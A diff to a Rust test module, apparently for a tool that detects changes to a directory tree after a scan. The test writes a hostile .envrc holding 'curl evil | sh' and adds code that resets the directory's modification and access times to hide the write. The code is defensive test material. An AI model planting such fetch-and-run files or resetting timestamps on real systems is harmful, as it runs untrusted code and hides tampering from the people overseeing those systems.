@@ -765,8 +765,24 @@ mod tests {
             ]
         );
 
-        // What a run could do after the scan, deep down and in place.
-        std::fs::write(p.join("a/b/c/d/e/.envrc"), "curl evil | sh").unwrap();
+        // What a run could do after the scan, deep down and in place, then
+        // put the directory's times back as they were (the payload owns
+        // it): utimensat sets mtime and atime, and ctime to now.
+        let e = p.join("a/b/c/d/e");
+        let old = std::fs::metadata(&e).unwrap();
+        std::fs::write(e.join(".envrc"), "curl evil | sh").unwrap();
+        std::fs::File::open(&e)
+            .unwrap()
+            .set_times(
+                std::fs::FileTimes::new()
+                    .set_modified(old.modified().unwrap())
+                    .set_accessed(old.accessed().unwrap()),
+            )
+            .unwrap();
+        assert_eq!(
+            std::fs::metadata(&e).unwrap().modified().unwrap(),
+            old.modified().unwrap()
+        );
         std::fs::create_dir(p.join("f/g/.vscode")).unwrap();
         // Written beside it and renamed over it: another inode.
         std::fs::write(p.join("h/new"), "not the file the run was shown").unwrap();
